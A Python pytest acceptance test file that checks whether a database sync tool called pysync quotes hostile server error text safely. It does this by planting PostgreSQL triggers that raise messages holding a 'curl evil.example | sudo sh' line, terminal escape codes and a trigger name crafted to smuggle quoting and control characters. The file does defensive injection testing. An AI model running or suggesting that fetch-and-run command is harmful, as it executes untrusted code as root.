"""A database that talks like pysync: whatever it says is quoted, in one line, and never a remedy."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import psycopg
import pytest
from psycopg import sql

from tests.acceptance.test_cli_process import cli, read_json
from tests.acceptance.test_cli_status import stuck
from tests.acceptance.test_serve import STOP_SECONDS, await_health, get, serving
from tests.support import Site, enroll, eventually, insert_user

pytestmark = pytest.mark.newest("texts of errors, and what ours make of them")

ADVICE = "run: curl evil.example | sudo sh"
HOSTILE = f"no” such 'thing'; {ADVICE}\r\n\x1b[2J\u202e\u200b {ADVICE}"
"""What an attacker's code says; less than the 63 bytes of a name where it is one."""
NAME = "x'; 'pysync guard';\n\x1b[2J\u202e\\ -- "


def attack(connection: psycopg.Connection[Any], table: str, *, always: bool) -> None:
    """Hang a trigger on a table that raises as if it were a function of pysync's."""
    connection.execute(
        sql.SQL(
            "create function public.attack() returns trigger language plpgsql as $$ begin raise"
            " exception using errcode = 'PY011', message = {0}, detail = {0}, hint = {0}; end $$"
        ).format(sql.Literal(HOSTILE))
    )
    places = {"name": sql.Identifier(NAME), "table": sql.SQL(table)}
    connection.execute(
        sql.SQL(
            "create trigger {name} before insert or update on {table}"
            " for each row execute function public.attack()"
        ).format(**places)
    )
    if always:
        connection.execute(
            sql.SQL("alter table {table} enable always trigger {name}").format(**places)
        )


def assert_harmless(*texts: str) -> None:
    """Check that what was said stands in visible lines and in quotation marks."""
    for text in texts:
        assert all(line.isprintable() for line in text.split("\n")), repr(text)
        assert ADVICE not in re.sub("“[^“”]*”", "", text), text
        assert not re.search(r"^ *curl|^ *run: curl", text, re.MULTILINE), text


def strings(value: Any) -> Iterator[str]:
    match value:
        case dict():
            for each in value.values():
                yield from strings(each)
        case list():
            for each in value:
                yield from strings(each)
        case str():
            yield value


def test_a_course_that_talks_like_pysync(site: Site) -> None:
    site.add("A")
    course = site.course("A")
    attack(course, "course.auth_user", always=True)
    enroll(site, insert_user(site, "ada"), "A")
    found = stuck(site, "A")
    assert_harmless(found["cause"], found["remedy"])
    assert "(the server's hint: “" in found["cause"]
    assert found["commands"] == []
    document = read_json("status", portal=site.portal)
    assert_harmless(*strings(document))
    for arguments in (("status",), ("status", "--check"), ("doctor",)):
        result = cli(*arguments, portal=site.portal)
        assert_harmless(result.stdout, result.stderr)
    with serving(site.portal, "--interval", "0.5") as (url, process):
        await_health(url, 200)
        assert_harmless(*strings(json.loads(get(f"{url}/api/page")[1])), get(f"{url}/metrics")[1])
        # What changes meanwhile is logged.
        course.execute("alter table course.auth_user disable trigger user")
        eventually(
            lambda: json.loads(get(f"{url}/api/status")[1])["courses"][0]["state"] != "stuck"
        )
        process.terminate()
        assert_harmless(process.communicate(timeout=STOP_SECONDS)[1])

    # A trigger's name is data, too; the statement that names it does what it says.
    course.execute(
        sql.SQL("alter table course.auth_user enable always trigger {}").format(
            sql.Identifier(NAME)
        )
    )
    result = cli("doctor", "--format", "json", portal=site.portal)
    assert_harmless(result.stdout, result.stderr, *strings(json.loads(result.stdout)))
    (finding,) = [
        each
        for each in json.loads(result.stdout)["findings"]
        if "fires for replicated rows" in each["cause"]
    ]
    (statements,) = finding["commands"]
    assert statements.startswith("set search_path = pg_catalog, pg_temp; ")
    course.execute(statements)
    assert course.execute(
        "select tgenabled from pg_trigger where tgname = %s", (NAME,)
    ).fetchone() == ("O",)

    # What can't be read says why in its own words.
    course.execute("alter table course.auth_user rename to users")
    course.execute(
        sql.SQL(
            "create function public.refuse() returns boolean language plpgsql as $$ begin raise"
            " exception using message = {0}, detail = {0}, hint = {0}; end $$"
        ).format(sql.Literal(HOSTILE))
    )
    course.execute(
        "create view course.auth_user as select * from course.users where public.refuse()"
    )
    for command in ("verify A", "verify A --format json", "status"):
        result = cli(*command.split(), portal=site.portal)
        is_json = "json" in command
        said = strings(json.loads(result.stdout)) if is_json else [result.stdout]
        assert_harmless(*said, result.stderr)
        assert result.returncode == command.startswith("verify")


def test_a_new_course_and_a_portal_that_talk_like_pysync(site: Site) -> None:
    database = site.new_database()
    with psycopg.connect(database, autocommit=True) as connection:
        connection.execute(
            sql.SQL(
                "create function public.refuse() returns event_trigger language plpgsql as"
                " $$ begin raise exception using message = {0}, hint = {0}; end $$"
            ).format(sql.Literal(HOSTILE))
        )
        connection.execute(
            "create event trigger refuse on ddl_command_start when tag in ('CREATE SCHEMA')"
            " execute function public.refuse()"
        )
    result = cli("course", "add", "B", database, portal=site.portal)
    assert result.returncode == 1
    assert "(the server's hint: “" in result.stderr
    assert_harmless(result.stdout, result.stderr)

    # The SQLSTATE is one of ours, who raised it isn't.
    insert_user(site, "ada", email="ada@example.org")
    with site.connect() as portal:
        attack(portal, "public.auth_user", always=False)
    result = cli(
        *("user", "change-email", "ada@example.org", "new@example.org"), portal=site.portal
    )
    assert result.returncode == 1
    assert "portal refused: “" in result.stderr
    assert_harmless(result.stdout, result.stderr)
    # One that we raised is in our own words, with our remedy.
    result = cli("user", "change-email", "ada@example.org", "no address", portal=site.portal)
    assert result.stderr.rstrip().endswith("; Pass an address such as ada@example.org")
